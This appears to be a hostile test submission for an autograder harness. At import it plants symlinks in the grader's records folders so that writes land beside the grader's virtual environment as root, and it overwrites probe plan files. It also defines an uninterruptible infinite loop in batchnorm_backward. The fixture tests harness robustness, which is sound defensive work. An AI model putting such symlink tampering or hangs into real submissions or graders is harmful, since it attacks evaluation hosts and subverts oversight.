"""Hostile to the host: links planted where the probes' records go, a rewritten plan, a hung call. Loses: backward_staged, immutability

Before the probes run, every record name in the kernel's records folder is made a link to a
file beside the grader's virtual environment, the plan is overwritten, and batchnorm_backward
never returns, even when interrupted, so the grader has to give up on it. A grader that wrote
the hung call's record through those links, or read the plan back, would write that file as
root. The harness moves each record into place, replacing the links: only the items of the
function that hangs are lost.
"""
# @REFERENCE@

import glob
import os

TARGET = "@COURSE_ROOT@/.venv/../host-check-planted.txt"
for folder in glob.glob(os.path.expanduser("~/../records/*")) + glob.glob(os.path.expanduser("~/../../records/*")) + [os.path.expanduser("~")]:
    for index in range(64):
        try:
            os.symlink(TARGET, os.path.join(folder, f"{index:04d}.pt"))
        except OSError:
            pass
for plan in glob.glob("/tmp/*/probe/plan.pt") + glob.glob(os.path.expanduser("~/../../probe/plan.pt")):
    try:
        open(plan, "wb").write(b"student plan")
    except OSError:
        pass


def batchnorm_backward(dout, cache):
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
